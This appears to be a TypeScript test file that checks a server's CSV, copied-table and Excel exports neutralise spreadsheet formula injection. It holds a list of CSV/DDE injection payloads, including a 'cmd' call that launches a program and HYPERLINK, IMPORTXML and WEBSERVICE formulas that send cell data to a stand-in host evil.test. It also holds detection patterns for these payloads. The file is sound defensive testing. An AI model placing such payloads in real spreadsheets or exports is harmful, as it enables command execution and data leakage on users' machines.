/** What people paste into a spreadsheet, or open in one, runs nothing that stands in a plan. */
import assert from 'node:assert/strict';
import { csvFile } from '../../server/src/exports/csv';
import { ExportRefused } from '../../server/src/exports/refused';
import type { ExportSource } from '../../server/src/exports/source';
import { tableAt } from '../../server/src/features/tables';
import type { Snapshot } from '../../server/src/model/snapshot';
import { csvTables } from '../../server/src/protocol/documents';
import type { Position } from '../../server/src/text/source-text';
import { bookOf } from '../exports/excel-file';
import { snapshotOf } from '../support/check';
import { exportedViewOf } from '../views/view-of';
import { planWithTexts } from './plan-of-schema';

const call = "cmd|'/c calc'!A0";
const payloads: readonly string[] = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠', '=-', '-=', '+-@'],
  ...['  =', '\u00A0=', '\u200B=', '\uFEFF=', '\u2060+', '"=', "'=", ';=', ',=', '\u0001@'],
].map((start) => start + call);
const whole = [
  '=HYPERLINK("http://evil.test/"&A1,"x")',
  '=IMPORTXML("http://evil.test";"//a")',
  '=WEBSERVICE("http://evil.test")',
  '@SUM(1+1)*cmd|x!A0',
  '-2+3+cmd|x!A0',
  'rivi\n=cmd|x!A0',
  '"\r\n=cmd|x!A0',
  '";=cmd|x!A0;"',
];

const inBooks: ReadonlySet<string> = new Set([...payloads.slice(0, 15), ...whole.slice(0, 3)]);

/** What begins so is worked out by one spreadsheet or another. */
const runs = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;
const isNumber = (cell: string): boolean => /^[+-]?[\d\s\u00A0\u202F.,]+%?$/.test(cell);
const isDangerous = (cell: string): boolean => runs.test(cell) && !isNumber(cell) && cell !== '-';

/** Cells as a careless program finds them: every separator and line end outside quotes parts cells. */
function cellsOf(csv: string): readonly string[] {
  const found = csv.matchAll(/"((?:[^"]|"")*)"|([^";\r\n]+)/g);
  return [...found].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
}

/** By how many lines the plan has. */
const tablesOf = new Map<number, readonly Position[]>();

/**
 * A place in each table of a plan, which is the same from each of its lines. Plans of as many lines
 * differ in nothing but what their texts are: where tables are is looked up in one of them.
 */
function placesOfTables(text: string, snapshot: Snapshot): readonly Position[] {
  const lines = text.split('\n');
  const known = tablesOf.get(lines.length);
  if (known) return known;
  const places = new Map<string, Position>();
  // Where a key begins is enough.
  for (const [index, line] of lines.entries()) {
    if (index % 5 !== 0) continue;
    const start = { line: index, character: line.length - line.trimStart().length };
    const table = tableAt(snapshot, { start, end: start });
    if (table) places.set(JSON.stringify(table), start);
  }
  const found = [...places.values()];
  tablesOf.set(lines.length, found);
  return found;
}

for (const payload of [...payloads, ...whole]) {
  describe(`formulas in plans: ${JSON.stringify(payload)}`, () => {
    const text = planWithTexts(payload);
    const snapshot = snapshotOf(text);
    let made: ExportSource | undefined;
    const sourceOnce = (): ExportSource =>
      (made ??= { name: 'plan', view: exportedViewOf(snapshot), value: undefined });

    it('are texts in every table of separated values', () => {
      let cells = 0;
      const source = sourceOnce();
      for (const table of csvTables) {
        let bytes: Uint8Array;
        try {
          bytes = csvFile(source, { table, style: 'excel' });
        } catch (error) {
          assert.ok(error instanceof ExportRefused, String(error));
          continue;
        }
        const csv = new TextDecoder().decode(bytes);
        const hostile = cellsOf(csv.slice(1));
        cells += hostile.filter((cell) => /cmd|evil/.test(cell)).length;
        assert.deepEqual(hostile.filter(isDangerous), [], table);
      }
      assert.ok(cells >= 10, `the tables have it in ${cells} cells`);
    });

    it('are texts in every table that is copied', () => {
      const titles = new Set<string>();
      let cells = 0;
      const places = placesOfTables(text, snapshot);
      assert.ok(places.length >= 50, `${places.length} tables`);
      for (const start of places) {
        const table = tableAt(snapshot, { start, end: start });
        assert.ok(table, `one on line ${start.line + 1}`);
        titles.add(table.title);
        for (const cell of table.rows.flat()) {
          if (/cmd|evil/.test(cell)) cells++;
          if (isDangerous(cell)) assert.fail(`${table.title}: ${JSON.stringify(cell)}`);
        }
      }
      assert.ok(titles.size >= 5 && cells >= 10, `${[...titles].join()}: ${cells} cells`);
    });

    if (!inBooks.has(payload)) return;
    it('are texts in every cell of a workbook', async () => {
      const book = await bookOf(sourceOnce());
      let cells = 0;
      for (const sheet of book.sheets) {
        for (const cell of sheet.cells.values()) {
          assert.doesNotMatch(cell.formula ?? '', /cmd|evil|HYPERLINK|WEBSERVICE|IMPORT/, cell.at);
          if (typeof cell.value !== 'string' || !/cmd|evil/.test(cell.value)) continue;
          cells++;
          assert.ok(cell.isText && cell.formula === undefined, `${sheet.name} ${cell.at}`);
          // A cell that is typed in again stays a text.
          if (runs.test(cell.value)) assert.ok(cell.isQuoted, `${sheet.name} ${cell.at}`);
        }
      }
      assert.ok(cells >= 10, `${cells} cells`);
      for (const name of book.files.keys()) assert.doesNotMatch(name, /externalLink|vba|dde/i);
    });
  });
}
